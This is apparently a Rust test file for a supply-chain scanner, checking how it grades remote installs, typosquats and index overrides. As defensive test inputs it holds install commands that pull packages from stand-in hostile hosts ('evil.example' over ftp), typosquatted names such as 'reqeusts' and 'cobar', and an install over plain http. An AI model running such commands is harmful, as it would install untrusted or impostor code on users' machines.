//! Edges of `supply/mod.rs` that the session-25 whole-file sweep (#27)
//! found unpinned: a URL's host as a stranger's, the grade of an install
//! from a private network or from a code host over plain http, a Go
//! module on github.com named by its `owner/repo`, and a warning on the
//! line before an install (never the first line's own text).

use super::*;
use crate::scan::Severity::{High, Low, Medium};
use crate::scan::testutil::{assert_absent, assert_severity};

#[test]
fn a_url_is_a_strangers_unless_its_host_has_a_class() {
    assert_eq!(is_unknown_host("https://files.evil.example/x"), Some(true));
    assert_eq!(is_unknown_host("https://github.com/acme/x"), Some(false));
    assert_eq!(is_unknown_host("no url here"), None);
}

#[test]
fn an_install_from_a_private_network_is_medium_and_from_a_code_host_over_http_high() {
    let install = |url: &str| format!("pip install {url}\n");
    assert_severity(&install("https://pypi.internal.corp/pkg-1.0.tar.gz"), "supply.remote-install", Medium);
    assert_severity(
        &install("https://github.com/acme/tool/archive/v1.tar.gz"),
        "supply.remote-install",
        Medium,
    );
    assert_severity(&install("http://github.com/acme/tool/archive/v1.tar.gz"), "supply.remote-install", High);
}

#[test]
fn a_go_module_on_github_is_named_by_its_owner_and_repo() {
    assert_eq!(github_owner_repo("github.com/spf13/cobra/cmd"), Some("spf13/cobra"));
    assert_eq!(github_owner_repo("github.com/spf13/cobra"), Some("spf13/cobra"));
    assert_eq!(github_owner_repo("github.com/acme/"), None);
    assert_eq!(github_owner_repo("github.com//cobra"), None);
    assert_eq!(github_owner_repo("github.com/acme"), None);
    assert_severity("go install github.com/spf13/cobar/cobra-cli@latest\n", "supply.typosquat", High);
    // The same path on another host is no look-alike of the GitHub module.
    assert_absent("go install gitlab.com/spf13/cobar/cobra-cli@latest\n", "supply.typosquat");
}

#[test]
fn a_warning_on_the_line_before_runs_on_into_the_command() {
    assert_severity("Whatever the old README says, never\n`pip install reqeusts`\n", "supply.typosquat", Low);
    assert_severity("Run this first:\n`pip install reqeusts`\n", "supply.typosquat", High);
    // The first line has no line before it: what follows the command on it
    // is not read as a lead-in.
    assert_severity("`pip install reqeusts` is a typosquat; never run it\n", "supply.typosquat", High);
}

#[test]
fn a_source_url_with_a_multibyte_host_is_scanned_without_a_panic() {
    // The scheme test sliced the URL's first seven bytes, inside `é`.
    assert_severity("pip install -i ftp://é.evil.example/simple acme\n", "supply.index-override", High);
    assert_severity("```ruby\nsource \"ftp://é.evil.example\"\n```\n", "supply.index-override", High);
}
